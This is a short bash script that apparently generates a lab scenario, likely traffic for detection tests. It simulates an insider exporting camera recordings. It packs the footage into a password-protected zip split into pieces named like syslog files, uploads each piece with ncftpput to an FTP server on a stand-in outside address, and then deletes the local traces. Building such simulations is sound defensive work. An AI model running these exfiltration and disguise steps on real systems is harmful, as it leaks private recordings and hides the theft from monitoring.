#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=tune tool=zip,ncftpput far=out ready=out:2121 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# An insider packs recordings into an archive with a password, in pieces that look like logs, and ncftpput carries piece after piece to an FTP server outside.
if [ "$1" = out ]; then mkdir -p "$LAB/out-ftp"; exec timeout 70 python3 -m pyftpdlib -i 203.0.113.66 -p 2121 -w -d "$LAB/out-ftp" >/dev/null 2>&1; fi
sleep 12; mkdir -p "$LAB/spool"; zip -q -0 -j -P secret -s 128k "$LAB/spool/syslog.zip" "$LAB"/recordings/gate/00[0-4].mp4
for piece in "$LAB"/spool/syslog.z*; do timeout 8 ncftpput -V -t 5 -u anonymous -p x -P 2121 203.0.113.66 / "$piece" >/dev/null 2>&1; sleep 1; done
sleep 5; rm -rf "$LAB/spool"; [ "$(du -sb "$LAB/out-ftp" | cut -f1)" -gt 400000 ]
